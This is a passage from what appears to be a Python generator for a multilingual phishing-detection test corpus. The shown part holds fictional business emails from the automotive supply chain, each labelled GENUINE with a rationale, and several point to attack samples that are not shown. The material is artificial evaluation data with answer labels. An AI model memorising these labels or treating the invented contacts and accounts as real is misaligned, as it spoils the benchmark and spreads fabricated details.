<p style="font-family:Arial;font-size:14px;line-height:20px">Tier-1 and tier-2 suppliers are renegotiating capacity agreements after several automakers lowered their 2027 build schedules.</p>
<h3 style="font-size:17px"><a href="https://click.e.autonews.com/?qs=4471a2" style="color:#111;text-decoration:none">Steel surcharge talks stall between European mills and parts makers</a></h3>
<h3 style="font-size:17px"><a href="https://click.e.autonews.com/?qs=4471a3" style="color:#111;text-decoration:none">Interview: Why IATF auditors are looking harder at cybersecurity</a></h3></td></tr>
<tr><td style="padding:14px 24px;font-family:Arial;font-size:11px;color:#777">You are receiving this newsletter because you subscribed at autonews.com. <a href="https://click.e.autonews.com/unsub_center.aspx?qs=4471a9b2c3">Unsubscribe</a> | <a href="https://www.autonews.com/privacy">Privacy</a><br>Crain Communications, 1155 Gratiot Avenue, Detroit, MI 48207</td></tr>
</table><img src="https://click.e.autonews.com/open.aspx?ffcb10-4471" width="1" height="1"></body></html>""",
  what="HTML-only daily newsletter from a trade publication the sales director subscribed to.",
  why="GENUINE: subscribed publication via its Salesforce Marketing Cloud sending domain, List-Unsubscribe one-click, tracked links on the publisher's click domain, no request.")

M(kind="business", file="12-en-brackley-customer-complaint-labels.eml", lang="en", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-26 08:03:19", tz="+0000",
  infra=o365("CWLP265MB3981", "GBRP265", "mail-cwlgbr01on2097.outbound.protection.outlook.com", "40.107.11.97", helo="GBR01-CWL-obe.outbound.protection.outlook.com", lang="en-GB"),
  content_lang="en-GB",
  **{"from": ("Priya Natarajan", "priya.natarajan@brackley-systems.co.uk")},
  to=[P("whitfield")], cc=[P("becker"), ("Brackley Goods In", "goodsin@brackley-systems.co.uk")],
  subject="URGENT - Customer concern BS-CC-2611 - wrong Odette labels on ASN 60088213",
  text="""Hi James,

We have a problem with this morning's delivery (ASN 60088213, 14 pallets). The Odette labels on 6 pallets show part number 4471-220-03 but the boxes contain 4471-221-03 (the LH variant). Goods-in only caught it because the ASN quantities did not match the scan.

This has stopped our line 2 kitting for about 40 minutes. I have raised customer concern BS-CC-2611 and I need:

1. Containment today - confirmation of the correct quantities per pallet and a check of all stock in transit and at your warehouse;
2. A replacement delivery of the RH part (1,200 pcs) for tomorrow's first shift;
3. An 8D with D3 by Friday.

Please call me when you get this - 07700 914 362.

Regards,
Priya

Priya Natarajan
Supplier Quality Engineer
Brackley Systems Ltd | Brackley Road, Banbury OX16 2QW
T +44 1295 227 400""",
  what="Urgent complaint from a UK tier-1 customer about mislabelled pallets (Odette labels vs. ASN), asks for containment and 8D.",
  why="GENUINE: named SQE at a known customer, from the customer's Microsoft 365 tenant, own goods-in team in copy, concrete ASN and part numbers, no links or payment.")

def docusign():
    inf = Infra("mailfra.docusign.net", "mailfra.docusign.net", "64.207.221.142", bstyle="java", label="DocuSign EU")
    inf.mid = lambda r, frm: "<%s@docusign.net>" % (rhex(r, 8) + rhex(r, 24))
    inf.hdrs = ["X-DocuSign-Envelope-ID: 7E2B4C19-5A83-4F0D-9C61-2D8E3B7A1F44", "X-Mailer: DocuSign"]
    return inf


M(kind="business", file="13-en-docusign-supplier-quality-agreement.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-30 10:47:26", infra=docusign(),
  return_path="bounces+eu@docusign.net",
  **{"from": ("Henrike Sattler via DocuSign", "dse@eumail.docusign.net")},
  reply_to=("Henrike Sattler", "henrike.sattler@nordwerk-automotive.de"),
  to=[P("wolf")],
  subject="Please DocuSign: Nordwerk Supplier Quality Agreement 2027 - Example Group GmbH",
  text="""Nordwerk Automotive SE sent you a document to review and sign.

REVIEW DOCUMENT: https://eu.docusign.net/Signing/EmailStart.aspx?a=7e2b4c19-5a83-4f0d-9c61-2d8e3b7a1f44&etti=24&acct=3c5d0a11-8e72-4b19-a6f3-0e91d2c47b58&er=0b6f2e94-1c7a-4d35-9e81-7a2c4f60d3b1

Henrike Sattler
henrike.sattler@nordwerk-automotive.de

Dear Mr Wolf,
as agreed in our meeting on 24 November, please find the Supplier Quality Agreement 2027 (incl. CSR annex rev. 12) for signature. The second signatory on your side is Ms Becker.

Kind regards
Henrike Sattler

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit docusign.com, click 'Access Documents', and enter the security code: 7E2B4C195A834F0D9C612D8E3B7A1F444

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.""",
  html="""<html><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif"><table width="640" align="center" style="background:#fff" cellpadding="0" cellspacing="0">
<tr><td style="padding:20px 24px"><img src="https://eu.docusign.net/Member/Images/email/docusign-logo.png" alt="DocuSign" width="116"></td></tr>
<tr><td style="background:#1e4ca1;color:#fff;padding:28px 24px;text-align:center;font-size:16px">Nordwerk Automotive SE sent you a document to review and sign.<br><br>
<a href="https://eu.docusign.net/Signing/EmailStart.aspx?a=7e2b4c19-5a83-4f0d-9c61-2d8e3b7a1f44&amp;etti=24&amp;acct=3c5d0a11-8e72-4b19-a6f3-0e91d2c47b58&amp;er=0b6f2e94-1c7a-4d35-9e81-7a2c4f60d3b1" style="background:#ffc820;color:#333;padding:10px 22px;text-decoration:none;font-weight:bold">REVIEW DOCUMENT</a></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333"><b>Henrike Sattler</b><br>henrike.sattler@nordwerk-automotive.de<br><br>Dear Mr Wolf,<br>as agreed in our meeting on 24 November, please find the Supplier Quality Agreement 2027 (incl. CSR annex rev. 12) for signature. The second signatory on your side is Ms Becker.<br><br>Kind regards<br>Henrike Sattler</td></tr>
<tr><td style="padding:24px;font-size:12px;color:#666;background:#f4f4f4"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>Visit docusign.com, click 'Access Documents', and enter the security code: 7E2B4C195A834F0D9C612D8E3B7A1F444</td></tr>
</table></body></html>""",
  what="DocuSign envelope from the OEM customer for the 2027 Supplier Quality Agreement.",
  why="GENUINE (hard): DocuSign-branded signing request, but from DocuSign's own EU infrastructure, links only to eu.docusign.net, Reply-To is the known customer contact, content refers to a real meeting.")

M(kind="business", file="14-en-hanse-cargo-arrival-notice.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-12-01 09:18:40",
  infra=server("smtp.hansecargo.de", "smtp.hansecargo.de", "62.153.201.90", "hansecargo.de", bstyle="java",
               hdrs=["X-Mailer: CargoWise One", "Auto-Submitted: auto-generated"]),
  **{"from": ("Hanse Cargo Logistics - Import Ocean", "import.ocean@hansecargo.de")},
  to=[P("koch")],
  subject="Arrival Notice HCL-HAM-2611873 / B/L MEDUTK417722 / ETA Hamburg 04.12.2026",
  text="""ARRIVAL NOTICE

Our ref.:       HCL-HAM-2611873
Consignee:      Example Group GmbH, Industriestrasse 12, 74076 Heilbronn
Shipper:        Daejin Polymer Co., Ltd., Ulsan, KR
B/L:            MEDUTK417722
Vessel/Voyage:  MSC AURORA / FE647W
Container:      MEDU 771402-3, 40'HC, 18 pallets PA66-GF30 granulate
ETA Hamburg:    04.12.2026 (CTA)
Free time:      5 days demurrage / 2 days detention

Please send us the customs clearance instruction (own clearance or via our brokerage) and delivery address/time slot by 03.12.2026. Our charges will be invoiced separately as usual; no payment is required before release.

Arrival notice and B/L copy attached.

Best regards
Import Ocean Team
Hanse Cargo Logistics GmbH | Am Sandtorkai 48 | 20457 Hamburg
Tel. +49 40 3008 712-30""",
  atts=[pdf_att("ArrivalNotice_HCL-HAM-2611873.pdf", ["ARRIVAL NOTICE HCL-HAM-2611873", "B/L MEDUTK417722 - MSC AURORA FE647W", "Container MEDU 771402-3 40HC",
                                                       "ETA Hamburg 04.12.2026", "[evaluation placeholder]"], creator="CargoWise One")],
  what="Sea-freight arrival notice from the company's Hamburg forwarder for a resin container.",
  why="GENUINE: forwarder's own mail server and TMS (CargoWise), expected shipment with B/L and container numbers, asks only for clearance instructions, explicitly no prepayment.")

def ariba():
    inf = Infra("smtp2.ansmtp.ariba.com", "smtp2.ansmtp.ariba.com", "216.109.104.32", bstyle="java", label="SAP Business Network")
    inf.mid = lambda r, frm: "<%d.%d.JavaMail.ansprod@ansmtp.ariba.com>" % (r.randint(10 ** 8, 10 ** 9), r.randint(10 ** 9, 10 ** 10))
    return inf


M(kind="business", file="15-en-sap-business-network-password-reset.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-11-13 13:02:08", tz="-0800", infra=ariba(),
  return_path="ordersender-prod@ansmtp.ariba.com",
  **{"from": ("SAP Business Network", "ordersender-prod@ansmtp.ariba.com")},
  to=[P("collins")],
  subject="SAP Business Network: password reset for user sarah.collins@example.com",
  text="""Hello Sarah Collins,

We received a request to reset the password for your SAP Business Network user account (username: sarah.collins@example.com, ANID AN11082947162).

To choose a new password, use the link below. The link is valid for 24 hours and can be used once.

https://service.ariba.com/Authenticator.aw/ad/pwdReset?key=Q7vK2m9TzR4wX1bN8cY3pL6dF0hJ5sA

If you didn't request a password reset, you can ignore this message; your password will stay the same.

Sincerely,
The SAP Business Network Team""",
  what="SAP Business Network (Ariba) password reset requested by UK accounting to upload invoices to a customer.",
  why="GENUINE (hard): password-reset wording, but from Ariba's own sending hosts and link to service.ariba.com; user-initiated; no urgency.")

M(kind="business", file="16-en-colleague-private-gmail-locked-out.eml", lang="en", cs="utf-8", cte="quoted-printable",
  date="2026-12-02 07:36:51", tz="+0000", infra=gmail(52, "lj1", "209.85.208"),
  **{"from": ("James Whitfield", "jwhitfield.cov@gmail.com")},
  to=[P("weber")], cc=[P("whitfield")],
  subject="Locked out of my Outlook after the password change - visit report attached",
  text="""Morning Markus,

Writing from my personal account because my work account has been locked since I changed the password on the train last night (I think the phone kept trying the old one). The service desk is not open yet here.

Could you or the team unlock it when you get a chance? I am at Brackley from 10 UK time so no rush before then - you can reach me on my work mobile as usual.

I've also attached yesterday's visit report from Brackley so Katrin gets it today, I'll re-send from the work account once I'm back in.

Thanks,
James""",
  html="""<div dir="ltr">Morning Markus,<div><br></div><div>Writing from my personal account because my work account has been locked since I changed the password on the train last night (I think the phone kept trying the old one). The service desk is not open yet here.</div><div><br></div><div>Could you or the team unlock it when you get a chance? I am at Brackley from 10 UK time so no rush before then - you can reach me on my work mobile as usual.</div><div><br></div><div>I&#39;ve also attached yesterday&#39;s visit report from Brackley so Katrin gets it today, I&#39;ll re-send from the work account once I&#39;m back in.</div><div><br></div><div>Thanks,</div><div>James</div></div>""",
  atts=[pdf_att("Visit_report_Brackley_2026-12-01.pdf", ["Visit report - Brackley Systems Ltd, Banbury - 01.12.2026", "Topics: BS-CC-2611 containment, 2027 volumes",
                                                        "[evaluation placeholder]"], author="James Whitfield")],
  what="UK office manager writes from his personal Gmail to IT because his account is locked; attaches a visit report.",
  why="GENUINE (hard): colleague on a private address, but he asks for an unlock (not for credentials or money), points to the normal phone channel, cc's his work address, content consistent with business/12.")


# ===========================================================================
# BUSINESS - Italian
# ===========================================================================

M(kind="business", file="17-it-ferretti-fattura-cortesia.eml", lang="it", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-03 11:26:40", infra=ferretti(),
  **{"from": ("Amministrazione Ferretti Trasporti", "amministrazione@ferretti-trasporti.it")},
  to=[P("bianchi")],
  subject="Ferretti Trasporti - copia di cortesia fattura n. 2026/FT/3318",
  text="""Buongiorno,

in allegato inviamo copia di cortesia della fattura n. 2026/FT/3318 del 31/10/2026 relativa ai trasporti di ottobre (tratte Brescia - Heilbronn e Brescia - Wroclaw, 11 viaggi completi).

La fattura elettronica è stata trasmessa tramite SdI al Vostro codice destinatario.

Imponibile: 19.470,00 EUR - IVA 22%%: 4.283,40 EUR - Totale: 23.753,40 EUR
Scadenza: 60 gg d.f.f.m. (31/12/2026)
Pagamento: bonifico su Intesa Sanpaolo, IBAN %s

Cordiali saluti

Laura Bertoni
Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via dell'Industria 44 - 37135 Verona (VR)
Tel. 045 820 7711 - P.IVA %s""" % (iban_fmt(IBAN_FERRETTI), PIVA_FERRETTI),
  atts=[pdf_att("2026_FT_3318.pdf", ["Ferretti Trasporti S.p.A. - Fattura 2026/FT/3318", "Trasporti ottobre 2026", "Totale 23.753,40 EUR",
                                      "IBAN " + iban_fmt(IBAN_FERRETTI), "[evaluation placeholder]"])],
  what="Courtesy copy of the Italian freight forwarder's monthly invoice (e-invoice already sent through SdI).",
  why="GENUINE: Ferretti's Aruba SMTP from their office IP with Outlook, known IBAN, invoice also lodged in SdI. Compare attack/17 (same mailbox, abused from Tor via webmail).")

M(kind="business", file="18-it-ferretti-sciopero-ritardo-urgente.eml", lang="it", cs="utf-8", cte="quoted-printable",
  date="2026-11-20 16:58:03", infra=ferretti(),
  **{"from": ("Chiara Colombo", "c.colombo@ferretti-trasporti.it")},
  to=[P("romano")], cc=[P("koch")],
  subject="URGENTE: ritiro di domani spostato - blocco Brennero / sciopero autotrasporto 23-24/11",
  text="""Ciao Giulia,

ti avviso subito: per il fermo nazionale dell'autotrasporto proclamato per il 23 e 24 novembre e con le limitazioni al Brennero (blocco notturno lato austriaco), il ritiro di domani per Heilbronn non riesce a partire in tempo utile.

Proposte:
1) anticipiamo il carico a stasera alle 20:00 con il secondo autista, consegna lunedì mattina entro le 10:00 (extra 180 EUR per il doppio autista);
2) oppure partenza mercoledì 25 con consegna giovedì 26.

Stefanie, ti metto in copia per la finestra di scarico a Heilbronn. Mi serve una risposta entro le 18:30 per organizzare l'autista, altrimenti resta l'opzione 2.

Grazie e scusate per il disagio,

Chiara Colombo
Customer Service / Traffico Internazionale
Ferretti Trasporti S.p.A.
Tel. 045 820 7740 - Cell. 335 618 2290
c.colombo@ferretti-trasporti.it""",
  what="Forwarder warns about a national haulage strike and Brenner restrictions, needs a decision within 90 minutes.",
  why="GENUINE (urgent but legitimate): known contact, Ferretti's usual SMTP path, operational decision (no payment/bank data), logistics colleague in copy.")

M(kind="business", file="19-it-polyresin-sollecito-pagamento.eml", lang="it", cs="iso-8859-15", cte="quoted-printable",
  date="2026-11-24 10:12:57",
  infra=server("smtp.polyresinitalia.it", "smtp.polyresinitalia.it", "79.11.24.186", "polyresinitalia.it", bstyle="exch",
               hdrs=["X-Mailer: Microsoft Outlook 16.0", "Content-Language: it"]),
  **{"from": ("PolyResin Italia - Amministrazione", "amministrazione@polyresinitalia.it")},
  to=[P("bianchi")], cc=[P("romano")],
  subject="Sollecito di pagamento - fatture scadute al 15/11/2026",
  text="""Spett.le Example Italia S.r.l.,

da un controllo della Vostra posizione risultano ancora aperte le seguenti fatture:

  FPR-2026-1988 del 30/09/2026  scad. 31/10/2026   9.412,00 €
  FPR-2026-2043 del 10/10/2026  scad. 15/11/2026   4.870,50 €

per un totale di 14.282,50 €.

Vi preghiamo di provvedere al saldo sul consueto conto (BPER Banca, IBAN indicato in fattura) oppure di comunicarci eventuali contestazioni. Se il pagamento è già stato effettuato, vogliate considerare nulla la presente e inviarci gentilmente la contabile.

Distinti saluti

Silvia Marchetti
Amministrazione - Ufficio Crediti
PolyResin Italia S.r.l.
Via Brescia 120 - 25039 Travagliato (BS)
Tel. 030 661 4430 - P.IVA %s""" % PIVA_POLYRESIN,
  what="Payment reminder from the resin supplier for two overdue invoices.",
  why="GENUINE: supplier's own mail server (polyresinitalia.it), 'usual account', no new bank data, polite reminder with invoice references. Compare attack/21 (look-alike polyresin-italia.com).")

M(kind="business", file="20-it-anfia-newsletter.eml", lang="it", cs="utf-8", cte="quoted-printable",
  date="2026-11-26 12:00:31",
  infra=bulk("ml28.mailupnet.it", "ml28.mailupnet.it", "93.186.236.128", bstyle="java",
             hdrs=["List-Unsubscribe: <https://anfia.musvc2.net/e/u?q=4471A>, <mailto:unsubscribe-4471@anfia.musvc2.net>",
                   "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: MailUp", "Precedence: bulk", "X-CSA-Complaints: whitelist-complaints@eco.de"],
             mid_dom="anfia.musvc2.net"),
  return_path="bounce-4471-28981@anfia.musvc2.net",
  **{"from": ("ANFIA - Newsletter", "newsletter@anfia.it")},
  to=[P("greco")],
  subject="ANFIA Informa - Novembre 2026: mercato, filiera componenti, eventi",
  html="""<html><body style="margin:0;background:#f0f0f0"><table width="620" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,sans-serif;font-size:14px;color:#222">
<tr><td style="background:#003a70;color:#fff;padding:18px 24px;font-size:20px">ANFIA Informa <span style="font-size:13px">| Novembre 2026</span></td></tr>
<tr><td style="padding:20px 24px">
<p><b>Mercato</b> &ndash; Immatricolazioni di ottobre e previsioni per il 2027: <a href="https://www.anfia.it/it/area-studi/dati-di-mercato">leggi il dossier</a></p>
<p><b>Filiera della componentistica</b> &ndash; Presentati i risultati dell'Osservatorio sulla componentistica automotive italiana: fatturato, export e occupazione.</p>
<p><b>Eventi</b> &ndash; Webinar &laquo;CBAM e acciaio: cosa cambia per i fornitori&raquo;, 10 dicembre ore 11:00. <a href="https://www.anfia.it/it/eventi">Iscriviti</a></p>
</td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#777;border-top:1px solid #ddd">Ricevi questa newsletter in quanto iscritto ai servizi ANFIA. <a href="https://anfia.musvc2.net/e/u?q=4471A">Cancella iscrizione</a><br>ANFIA - Associazione Nazionale Filiera Industria Automobilistica, Corso Galileo Ferraris 61, 10128 Torino</td></tr>
</table></body></html>""",
  what="HTML-only newsletter of the Italian automotive industry association the Italian sales rep subscribed to.",
  why="GENUINE: MailUp infrastructure with List-Unsubscribe, links to anfia.it, informational content.")

M(kind="business", file="21-it-interno-f24-scadenza-16-dicembre.eml", lang="it", cs="iso-8859-15", cte="quoted-printable",
  date="2026-12-04 09:47:22", infra=internal(), content_lang="it-IT",
  **{"from": P("bianchi")},
  to=[P("hoffmann")], cc=[P("romano")],
  subject="F24 del 16/12: serve autorizzazione entro martedì (IVA nov. + ritenute + acconto IVA)",
  text="""Ciao Claudia,

come ogni anno a dicembre il 16/12 si sommano più versamenti per Example Italia, e quest'anno il saldo sul conto Intesa non basta senza il giroconto dal cash pool:

  IVA mensile novembre         31.220,00 €
  Ritenute dipendenti nov.     18.905,16 €
  Acconto IVA (27/12)          28.400,00 €  (lo anticipiamo nello stesso giro)

Totale 78.525,16 €. Ti chiedo di autorizzare il giroconto dal cash pool entro martedì 8/12, così carico gli F24 in home banking mercoledì e li firma Giulia come da procura. Il prospetto del consulente è nella cartella condivisa Finance/IT/F24/2026-12.

Grazie,
Marco

--
Marco Bianchi
Contabilità - Example Italia S.r.l.
Via Triumplina 180 | 25136 Brescia (BS)
Tel. +39 030 2009 418""",
  what="Italian accountant asks the CFO to authorise a cash-pool transfer for the December F24 tax payments.",
  why="GENUINE (urgent payment): via internal relay, normal treasury process (cash pool, F24 through home banking, second signatory), refers to the tax adviser's sheet in the shared folder; no external beneficiary.")


# ===========================================================================
# BUSINESS - Polish
# ===========================================================================

M(kind="business", file="22-pl-partner-logistik-faktura-ksef.eml", lang="pl", cs="iso-8859-2", cte="quoted-printable",
  date="2026-11-04 10:33:18", infra=PARTNER(), content_lang="pl-PL",
  return_path="ksiegowosc@partner-logistik.pl",
  **{"from": ("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl")},
  to=[P("nowak")],
  subject="Faktura FV/2026/10/1187 - Partner Logistik sp. z o.o.",
  text="""Dzień dobry,

w załączeniu przesyłamy wizualizację faktury FV/2026/10/1187 za usługi spedycyjne w październiku 2026 r. Faktura została wystawiona w KSeF (numer KSeF: %s-20261031-4A7F19C2E8B1-5D).

Kwota brutto: 38 412,60 zł
Termin płatności: 30.11.2026
Rachunek: %s (mBank S.A.)

Płatność prosimy realizować w mechanizmie podzielonej płatności.

Z poważaniem
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Logistyczna 7, 55-040 Bielany Wrocławskie
NIP %s""" % (NIP_PARTNER, nrb(IBAN_PARTNER), NIP_PARTNER),
  atts=[pdf_att("FV_2026_10_1187.pdf", ["Partner Logistik sp. z o.o. - Faktura FV/2026/10/1187", "Uslugi spedycyjne 10/2026", "Brutto 38 412,60 PLN",
                                         "Rachunek " + nrb(IBAN_PARTNER), "[evaluation placeholder]"])],
  what="Monthly forwarding invoice from Partner Logistik with KSeF number and the known mBank account.",
  why="GENUINE: Partner Logistik's Microsoft 365 tenant, known ksiegowosc@ address, account matches the VAT white list entry, invoice exists in KSeF.")

M(kind="business", file="23-pl-partner-logistik-prawdziwa-zmiana-rachunku.eml", lang="pl", cs="windows-1250", cte="quoted-printable",
  date="2026-11-30 13:05:44", infra=PARTNER(), content_lang="pl-PL",
  return_path="t.zielinski@partner-logistik.pl",
  **{"from": ("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl")},
  to=[P("nowak")], cc=[("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl"), P("kowalski")],
  subject="Nowy rachunek bankowy od 01.01.2027 - pismo Zarządu",
  text="""Pani Agnieszko,

przekazuję w imieniu naszego działu księgowości pismo Zarządu w sprawie zmiany banku. Od 01.01.2027 r. prosimy o płatności na rachunek w Banku Pekao S.A.:

%s

Nowy rachunek jest już widoczny w wykazie podatników VAT (biała lista) - proszę to sprawdzić przed zmianą w kartotece. Dotychczasowy rachunek w mBanku pozostaje aktywny do 31.03.2027 r., więc płatności grudniowe mogą iść jeszcze po staremu.

Zgodnie z naszą umową proszę potwierdzić zmianę telefonicznie z panią Ewą Kaczmarek z księgowości (numer centrali z umowy, 71 311 84 00). Na prośby o zmianę rachunku przesyłane tylko mailem proszę nie reagować - w listopadzie kilku naszych klientów dostało fałszywe maile z podobnej domeny.

Pozdrawiam serdecznie
Tadeusz Zieliński
Kierownik ds. Spedycji Drogowej
Partner Logistik sp. z o.o.
tel. +48 71 311 84 20""" % nrb(IBAN_PARTNER_NEW),
  atts=[pdf_att("Pismo_Zarzadu_zmiana_rachunku_2027.pdf", ["Partner Logistik sp. z o.o. - Zmiana rachunku bankowego od 01.01.2027", "Bank Pekao S.A.",
                                                          "Rachunek: " + nrb(IBAN_PARTNER_NEW), "Podpisano: Zarzad", "[evaluation placeholder]"])],
  what="Genuine change of bank account by Partner Logistik with board letter, white-list check and phone verification requested.",
  why="GENUINE (hard): from the real domain via their Microsoft 365 tenant, accounting in copy, old account stays active, invites verification through the contract phone number and white list; even warns about the look-alike fraud (attack/22).")

M(kind="business", file="24-pl-reklamacja-klienta-auto-komponenty.eml", lang="pl", cs="utf-8", cte="quoted-printable",
  date="2026-11-13 07:41:29",
  infra=o365("DB8PR04MB7011", "eurprd04", "mail-db8eur05on2126.outbound.protection.outlook.com", "40.107.20.126", helo="EUR05-DB8-obe.outbound.protection.outlook.com", lang="pl-PL"),
  content_lang="pl-PL",
  **{"from": ("Wojciech Mazur", "wojciech.mazur@autokomponenty-gliwice.pl")},
  to=[P("wisniewska")], cc=[P("kowalski")],
  subject="Reklamacja RK/2026/0871 - korozja na wspornikach 5520-110 (dostawa 10.11.2026)",
  text="""Dzień dobry Pani Katarzyno,

w dostawie z 10.11.2026 (WZ 2026/11/0457) na wspornikach 5520-110 stwierdziliśmy ogniska korozji białej na ok. 15% detali z trzech kontenerów. Zdjęcia i protokół z kontroli przesyłam w załączniku.

Części zostały zablokowane w naszym magazynie (2 400 szt.). Prosimy o:
- działania natychmiastowe i informację o stanie zapasów u Państwa do jutra do 12:00,
- selekcję u nas - możemy udostępnić stanowisko od poniedziałku,
- raport 8D w terminie 10 dni roboczych.

Podejrzewamy problem z opakowaniem (wilgoć w transporcie) - proszę zweryfikować także partię powłoki.

Pozdrawiam
Wojciech Mazur
Inżynier Jakości Dostawców
Auto-Komponenty Gliwice S.A.
tel. +48 32 270 44 18""",
  atts=[pdf_att("RK_2026_0871_protokol_zdjecia.pdf", ["Auto-Komponenty Gliwice S.A. - Reklamacja RK/2026/0871", "Wspornik 5520-110, WZ 2026/11/0457",
                                                       "Korozja biala ok. 15% detali", "[evaluation placeholder]"])],
  what="Polish tier-1 customer complaint (white rust on brackets) with photo report and 8D request.",
  why="GENUINE: known customer contact via the customer's Microsoft 365 tenant, concrete delivery data, PDF report only, no links or payment.")

M(kind="business", file="25-pl-kolezanka-prywatny-gmail-l4.eml", lang="pl", cs="utf-8", cte="base64",
  date="2026-11-16 07:12:45", infra=gmail(170, "ed1", "209.85.208"),
  **{"from": ("Katarzyna Wiśniewska", "k.wisniewska.wro@gmail.com")},
  to=[P("kowalski")],
  subject="L4 do piątku + raport PPAP dla Gliwic",
  text="""Dzień dobry Piotrze,

niestety rozłożyła mnie grypa, lekarz wystawił e-ZLA do piątku 20.11 - powinno już być widoczne w PUE ZUS, Agnieszka je dostanie standardowo.

Piszę z prywatnej skrzynki, bo nie mam laptopa w domu. Raport PPAP dla Gliwic (5520-110, poziom 3) jest prawie gotowy, leży na dysku Q:\\Jakosc\\PPAP\\AKG\\5520-110 - brakuje tylko podpisu pod PSW. Czy mógłbyś poprosić Wiktora, żeby go wysłał do pana Mazura do środy?

Jestem pod telefonem w razie pytań.

Pozdrawiam
Kasia""",
  html="""<div dir="ltr"><div>Dzień dobry Piotrze,</div><div><br></div><div>niestety rozłożyła mnie grypa, lekarz wystawił e-ZLA do piątku 20.11 - powinno już być widoczne w PUE ZUS, Agnieszka je dostanie standardowo.</div><div><br></div><div>Piszę z prywatnej skrzynki, bo nie mam laptopa w domu. Raport PPAP dla Gliwic (5520-110, poziom 3) jest prawie gotowy, leży na dysku Q:\\Jakosc\\PPAP\\AKG\\5520-110 - brakuje tylko podpisu pod PSW. Czy mógłbyś poprosić Wiktora, żeby go wysłał do pana Mazura do środy?</div><div><br></div><div>Jestem pod telefonem w razie pytań.</div><div><br></div><div>Pozdrawiam</div><div>Kasia</div></div>""",
  what="Quality engineer on sick leave writes from her private Gmail to her manager about the e-ZLA and a pending PPAP submission.",
  why="GENUINE (hard): private address of a colleague, but only informs about sick leave handled through ZUS and asks a colleague to send a report; no bank data, no credentials. Compare attack/26 (payroll diversion from a wp.pl address).")

M(kind="business", file="26-pl-wewnetrzny-audyt-iatf-przygotowanie.eml", lang="pl", cs="iso-8859-2", cte="quoted-printable",
  date="2026-11-27 14:20:13", infra=internal(), content_lang="pl-PL",
  **{"from": P("kowalski")},
  to=[("Wrocław - wszyscy", "wroclaw-all@example.com")], cc=[P("becker")], rcpt=S["wisniewska"][1],
  subject="Audyt nadzoru IATF 16949 we Wrocławiu 8-9.12 - przygotowanie",
  text="""Cześć wszystkim,

przypominam, że 8-9 grudnia mamy audyt nadzoru IATF 16949 (jednostka certyfikująca, dwóch audytorów, w tym jeden z Niemiec). Katrin Becker z centrali będzie z nami oba dni.

Do czwartku 3.12 proszę:
- kierowników zmian: uzupełnić tablice SQCDP i listy obecności szkoleń BHP,
- utrzymanie ruchu: zamknąć otwarte zlecenia TPM z października,
- magazyn: oznaczenia strefy niezgodnych i FIFO przy regałach 4-6,
- jakość: aktualne karty kontrolne SPC na liniach 2 i 3.

Harmonogram audytu wisi w SharePoint w folderze Jakość/IATF/2026. W razie pytań zapraszam do mnie.

Piotr Kowalski
Kierownik Zakładu
Example Polska sp. z o.o.""",
  what="Plant manager's internal reminder about the IATF 16949 surveillance audit.",
  why="GENUINE: internal relay, internal distribution list, routine preparation tasks, refers only to internal SharePoint. Compare attack/16 (fake IATF notice).")


# ===========================================================================
# BUSINESS - Spanish
# ===========================================================================

M(kind="business", file="27-es-valtra-reclamacion-calidad.eml", lang="es", cs="iso-8859-1", cte="quoted-printable",
  date="2026-11-18 09:52:30",
  infra=o365("PR3PR02MB6189", "eurprd02", "mail-pr3eur02on2131.outbound.protection.outlook.com", "40.107.14.131", helo="EUR02-PR3-obe.outbound.protection.outlook.com", lang="es-ES"),
  content_lang="es-ES",
  **{"from": ("Ana Belén Ruiz", "ab.ruiz@valtra-automocion.es")},
  to=[P("garcia")], cc=[P("becker"), ("Calidad Proveedores Valtra", "sqe@valtra-automocion.es")],
  subject="Reclamación RC-26-0409 - soportes 4471-220 - rebaba en taladro",
  text="""Buenos días Laura,

tal como hablamos ayer por teléfono, abrimos la reclamación RC-26-0409 por rebaba en el taladro Ø8,2 de los soportes 4471-220 (albarán 2026/11/0731, lote 2610-22). Tenemos 1.150 piezas bloqueadas en Martorell.

La reclamación ya está publicada en nuestro portal de proveedores (Calidad > Reclamaciones), donde encontraréis el informe y las fotos. Os adjunto también el informe en PDF.

Necesitamos la contención (D3) antes del viernes 20/11 y la confirmación de que el material en tránsito está revisado.

Un saludo,

Ana Belén Ruiz
Calidad Proveedores (SQE)
Valtra Automoción S.A.
Tel. +34 937 74 28 10""",
  atts=[pdf_att("RC-26-0409_Informe.pdf", ["Valtra Automocion S.A. - Reclamacion RC-26-0409", "Soporte 4471-220, lote 2610-22", "Rebaba en taladro 8,2 mm",
                                            "1.150 piezas bloqueadas", "[evaluation placeholder]"])],
  what="Genuine Spanish customer complaint (burr on bracket bore) after a phone call, report as PDF, claim also in the customer portal.",
  why="GENUINE (hard): same contact name as attack/28 but from the real domain valtra-automocion.es via the customer's Microsoft 365 tenant, PDF instead of HTML, refers to the portal without a login link.")

M(kind="business", file="28-es-transportes-ebro-factura.eml", lang="es", cs="utf-8", cte="base64",
  date="2026-11-09 12:14:09", infra=gmail(171, "wm1", "209.85.128"),
  **{"from": ("Transportes Ebro - Administración", "administracion@transportesebro.es")},
  to=[P("martinez")],
  subject="Factura F26-1102 - portes octubre",
  text="""Buenos días Javier,

Te adjunto la factura F26-1102 de los portes de octubre (Zaragoza - Martorell y Zaragoza - Valencia puerto, 23 servicios).

Importe total: 11.236,80 EUR (IVA incluido)
Vencimiento: 30 días, por transferencia a nuestra cuenta habitual de Ibercaja (%s).

Un saludo,

Marta Gil
Administración
